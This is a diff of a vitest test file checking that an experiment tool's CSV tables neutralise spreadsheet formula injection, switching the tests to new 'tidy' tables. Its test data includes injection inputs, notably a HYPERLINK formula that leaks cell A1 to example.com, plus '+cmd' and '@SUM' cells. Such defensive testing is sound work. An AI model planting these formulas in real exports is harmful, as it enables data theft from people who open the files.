@@ -1,8 +1,9 @@
 import { describe, expect, it } from 'vitest';
-import type { Summary } from '../../../experiments/aggregate/summary.js';
 import { csvCell } from '../../../experiments/report/csv-cell.js';
 import { recordSetOf } from '../../../experiments/run/record-set.js';
-import { replicationsCsv, summaryCsv } from '../../../experiments/report/csv-tables.js';
+import { tidyCsv } from '../../../experiments/report/csv-tables.js';
+import { tidyTables } from '../../../experiments/report/tidy/tidy-tables.js';
+import { TIDY_TABLES } from '../../../experiments/report/tidy/tidy-columns.js';
 import { loadExperiment } from '../../../experiments/load/index.js';
 import type { ReplicationRecord } from '../../../experiments/run/record-log.js';
 import type { RunManifest } from '../../../experiments/run/run-files.js';
@@ -27,39 +28,32 @@ describe('csvCell', () => {
 });
 
 describe('the CSV tables, written from plans whose names and descriptions look like formulas', () => {
-  it('summary.csv reads back with every such text cell prefixed by a quote, and negative numbers still numbers', () => {
-    const summary = {
-      plans: [
-        { name: FORMULAS[0], description: FORMULAS[3], completionHours: { p85: -3.5 }, pools: { annotators: { utilization: 0.98 } } },
-        { name: '-minus', description: 'fine, text', completionHours: { p85: 12 }, pools: { annotators: { utilization: -0 } } },
-      ],
-    } as unknown as Summary;
-    const text = summaryCsv(summary);
+  it('a table reads back with every such text cell prefixed by a quote, and negative numbers still numbers', () => {
+    const text = tidyCsv({ spec: TIDY_TABLES.failures, rows: [[FORMULAS[0], 'h', -3.5, FORMULAS[3], 0, '-minus']] });
     expect(parseCsv(text)).toEqual([
-      ['plan', 'description', 'completionHours.p85', 'pools.annotators.utilization'],
-      [`'${FORMULAS[0]}`, `'${FORMULAS[3]}`, '-3.5', '0.98'],
-      ["'-minus", 'fine, text', '12', '0'],
+      ['experiment', 'configHash', 'seed', 'plan', 'replication', 'error'],
+      [`'${FORMULAS[0]}`, 'h', '-3.5', `'${FORMULAS[3]}`, '0', "'-minus"],
     ]);
     // Neutralised cells are quoted in the file; a number is not.
-    expect(text.split('\n')[1]).toMatch(/^"'=HYPERLINK\(""https:\/\/example\.com\?leak=""&A1,""click""\)","'@SUM\(A1:A9\)",-3\.5,0\.98$/);
+    expect(text.split('\n')[1]).toMatch(/^"'=HYPERLINK\(""https:\/\/example\.com\?leak=""&A1,""click""\)",h,-3\.5,"'@SUM\(A1:A9\)",0,"'-minus"$/);
   });
 
-  it('replications.csv reads back with formula-like plan names and errors prefixed by a quote', () => {
+  it('replication-measures and failures read back with formula-like plan names and errors prefixed by a quote', () => {
     const experiment = loadExperiment('test/experiments/fixtures/small-project.yaml');
     const names = ['=1+1', '+cmd', '@plan'];
     const plans = experiment.plans.map((p, i) => ({ ...p, name: names[i] }));
     const manifest: RunManifest = { experiment: experiment.name, description: experiment.description, configHash: experiment.configHash, seed: 11, replications: 1, shard: null, plans };
     const columns = columnNames(rowLayout(plans[0].model));
-    const row = columns.map((c) => (c === 'replication' ? 0 : c === 'completed' ? 1 : -1.25));
+    const row = columns.map((c) => (c === 'replication' ? 0 : c === 'completed' ? 1 : c === 'bottleneck' ? 0 : -1.25));
     const records: ReplicationRecord[] = [
       { plan: names[0], replication: 0, row },
       { plan: names[1], replication: 0, row },
       { plan: names[2], replication: 0, seed: 11, error: '-failed: =A1', stack: '' },
     ];
-    const out = csvRecords(replicationsCsv(manifest, recordSetOf(manifest, records)));
-    expect(out.map((r) => r.plan)).toEqual(["'=1+1", "'+cmd", "'@plan"]);
-    expect(out[2].error).toBe("'-failed: =A1");
-    const figure = columns.find((c) => c !== 'replication' && c !== 'completed')!;
-    expect(out[0][figure]).toBe('-1.25');
+    const tables = tidyTables(manifest, recordSetOf(manifest, records));
+    const out = csvRecords(tidyCsv(tables.replicationMeasures));
+    expect([...new Set(out.map((r) => r.plan))]).toEqual(["'=1+1", "'+cmd"]);
+    expect(csvRecords(tidyCsv(tables.failures)).map((r) => [r.plan, r.error])).toEqual([["'@plan", "'-failed: =A1"]]);
+    expect(out.find((r) => r.measure === 'accepted')!.value).toBe('-1.25');
   });
 });
